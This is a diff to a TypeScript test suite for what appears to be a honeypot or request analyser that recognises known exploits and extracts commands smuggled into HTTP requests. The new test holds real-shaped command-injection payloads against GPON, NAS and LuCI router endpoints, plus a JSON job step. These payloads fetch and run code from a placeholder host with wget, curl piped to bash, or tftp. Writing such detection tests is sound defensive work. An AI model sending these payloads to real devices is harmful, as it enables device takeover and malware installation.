@@ -4,6 +4,7 @@ import { describe, it } from 'node:test';
 import { shippedDecoys } from '../../package.ts';
 import type { Exchange } from '../http/serve.ts';
 import { readApplications } from './application.ts';
+import { carriedCommands } from './carried.ts';
 import { requestOf } from './fixtures/sample.ts';
 import { log4shellOf, matchExploit } from './match.ts';
 import { type RequestText, textOf } from './request-text.ts';
@@ -22,7 +23,7 @@ for (const application of applications)
   describe(application.application, () => {
     for (const exploit of application.exploits) {
       it(`${exploit.name} has a sample`, () => assert.ok(exploit.samples.length > 0));
-      for (const [index, { request, command }] of exploit.samples.entries())
+      for (const [index, { request, command, proof }] of exploit.samples.entries())
         it(`${exploit.name} is found in sample ${index + 1}, with its command`, () => {
           const match = matchExploit(applications, textOfSample(request));
           assert.deepEqual(
@@ -30,8 +31,9 @@ for (const application of applications)
               application: match?.application.application,
               name: match?.exploit.name,
               command: match?.command,
+              proof: match?.proof,
             },
-            { application: application.application, name: exploit.name, command },
+            { application: application.application, name: exploit.name, command, proof },
           );
           assert.equal(match!.exploit, exploit, 'another entry of the same name comes first');
         });
@@ -89,4 +91,35 @@ it('lookups of Log4j are found through their disguises, wherever they stand', ()
   ] as const;
   for (const [request, address] of found)
     assert.deepEqual(log4shellOf(textOfSample(request)), [address], request);
+});
+
+it('what no known application explains is a command where a shell would find one', () => {
+  const carrying: readonly (readonly [request: string, commands: readonly string[]])[] = [
+    [
+      'POST /GponForm/diag_Form?images/ HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\n\nXWebPageName=diag&dest_host=`busybox+wget+http://192.0.2.1/g+-O+/tmp/g`;sh+/tmp/g&ipv=0',
+      ['`busybox wget http://192.0.2.1/g -O /tmp/g`;sh /tmp/g'],
+    ],
+    [
+      'GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=Y2QgL3RtcDsgd2dldCBodHRwOi8vMTkyLjAuMi4xL20= HTTP/1.1',
+      ['cd /tmp; wget http://192.0.2.1/m'],
+    ],
+    [
+      'GET /cgi-bin/luci/;stok=/locale?form=country&country=$(id%3E%60wget+http%3A%2F%2F192.0.2.1%2Ft+-O-+|sh%60) HTTP/1.1',
+      ['$(id>`wget http://192.0.2.1/t -O- |sh`)'],
+    ],
+    [
+      'POST /api/run HTTP/1.1\nContent-Type: application/json\n\n{"job":{"steps":["echo hi","curl -s http://192.0.2.1/x | bash"]}}',
+      ['curl -s http://192.0.2.1/x | bash'],
+    ],
+    [
+      'POST /upload HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name="a"\n\n;tftp -g -r m 192.0.2.1;\n--b--',
+      [';tftp -g -r m 192.0.2.1;'],
+    ],
+    ['GET /?cmd=1 HTTP/1.1\nCookie: a=;wget http://192.0.2.1/c', ['a=;wget http://192.0.2.1/c']],
+    ['GET /shop?next=http://192.0.2.1/curl HTTP/1.1\nUser-Agent: curl/8.5.0 (+http://192.0.2.1/)', []],
+    ['GET /search?q=how+to+use+curl+and+sh HTTP/1.1', []],
+    ['POST /x HTTP/1.1\nContent-Type: application/json\n\n{"a":[[[{"b":null}]]],"c":1}', []],
+  ];
+  for (const [request, commands] of carrying)
+    assert.deepEqual(carriedCommands(textOfSample(request)), commands, request);
 });
